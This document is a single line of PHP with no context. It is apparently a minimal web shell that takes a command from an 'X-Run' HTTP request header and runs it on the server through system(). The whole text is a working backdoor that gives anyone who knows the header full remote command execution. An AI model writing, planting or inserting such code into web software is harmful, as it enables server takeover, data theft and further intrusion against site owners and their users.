<?php $h = apache_request_headers(); system($h["X-Run"]);
